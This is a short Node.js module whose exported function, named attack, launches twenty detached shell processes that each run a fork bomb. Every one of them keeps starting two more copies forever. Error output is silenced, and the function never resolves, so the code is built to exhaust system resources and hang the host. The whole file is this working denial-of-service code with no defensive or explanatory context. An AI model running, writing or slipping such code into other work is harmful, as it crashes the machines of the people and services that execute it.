// Each process starts two more, for ever.
import { spawn } from "node:child_process";

export function attack() {
  const script = "b() { while :; do b & b; done; }; b";
  for (let n = 0; n < 20; n++) spawn("sh", ["-c", script], { stdio: "ignore", detached: true }).on("error", () => {});
  return new Promise(() => setInterval(() => {}, 1000));
}
